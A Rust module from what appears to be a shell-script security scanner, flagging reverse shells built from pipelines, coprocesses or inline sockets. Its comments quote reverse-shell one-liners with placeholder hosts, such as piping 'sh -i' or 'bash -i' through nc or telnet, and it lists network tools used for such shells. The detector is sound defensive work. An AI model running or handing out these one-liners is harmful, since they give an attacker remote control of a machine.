//! Reverse shells built from pipelines: a shell in one stage, a network tool in another
//! (`cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`, `telnet … | sh | telnet …`).

use super::Hit;
use crate::shell::nested::SHELLS;
use crate::shell::{Command, Script};

/// Programs that carry a byte stream over the network.
const NETWORK_PIPES: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "socat",
    "cryptcat",
    "nc.traditional",
    "nc.openbsd",
];

fn is_network_pipe(cmd: &Command) -> bool {
    NETWORK_PIPES.contains(&cmd.name())
        // curl's telnet protocol carries stdin and stdout as they are (`curl -sN telnet://H:P`).
        || (cmd.name() == "curl"
            && cmd
                .args()
                .iter()
                .any(|a| a.text.to_ascii_lowercase().starts_with("telnet://")))
        || (cmd.name() == "openssl"
            && cmd
                .args()
                .first()
                .is_some_and(|a| a.text == "s_client" || a.text == "s_server"))
}

/// A shell that reads commands from its input (interactive or from stdin).
fn is_stream_shell(cmd: &Command) -> bool {
    SHELLS.contains(&cmd.name())
        && (crate::shell::nested::reads_code_from_stdin(cmd)
            || cmd.args().iter().any(|a| {
                a.text.starts_with('-') && !a.text.starts_with("--") && a.text.contains('i')
            }))
}

/// Report pipelines that join a stream-reading shell and a network tool.
pub fn analyze(script: &Script) -> Vec<Hit> {
    let mut hits = Vec::new();
    for (pid, p) in script.pipelines.iter().enumerate() {
        let mut shell = None;
        let mut net = None;
        for stage in 0..p.stages {
            for c in script.stage(pid, stage) {
                if is_stream_shell(c) {
                    shell = Some(c.name().to_string());
                }
                if is_network_pipe(c) {
                    net = Some(c.name().to_string());
                }
            }
        }
        if let (Some(sh), Some(net)) = (shell, net) {
            hits.push(Hit {
                rule_id: "revshell.shell-over-network",
                span: p.span,
                detail: Some(format!("`{sh}` reads commands through `{net}`")),
            });
        }
    }
    // A coprocess joins the two without a pipeline: `coproc nc HOST PORT; sh <&${COPROC[0]}
    // >&${COPROC[1]}`, `coproc R { bash -i; }; cat <&${R[0]} | nc HOST PORT | cat >&${R[1]}`. A
    // descriptor taken from a variable (`${COPROC[0]}` reads as `$COPROC`) is a coprocess's or
    // one opened with `exec {fd}<>…`; with a stream shell and a network tool in the same input,
    // one feeds the other.
    let coproc_fd = script.commands.iter().find(|c| {
        c.redirects
            .iter()
            .any(|r| matches!(r.op.as_str(), "<&" | ">&") && r.target.text.starts_with('$'))
    });
    if let Some(joined) = coproc_fd {
        let shell = script.commands.iter().find(|c| is_stream_shell(c));
        let net = script.commands.iter().find(|c| is_network_pipe(c));
        if let (Some(sh), Some(net)) = (shell, net) {
            hits.push(Hit {
                rule_id: "revshell.shell-over-network",
                span: joined.span,
                detail: Some(format!(
                    "`{}` reads commands through `{}` joined by a coprocess",
                    sh.name(),
                    net.name()
                )),
            });
        }
    }
    // Interpreter code that connects out and runs a shell or commands it receives.
    for e in &script.effects {
        if e.kind == crate::shell::ir::EffectKind::ReverseShell {
            hits.push(Hit {
                rule_id: "revshell.inline-socket",
                span: e.span,
                detail: Some(format!(
                    "{} opens a connection and runs a shell or the commands it receives",
                    e.detail
                )),
            });
        }
    }
    hits
}
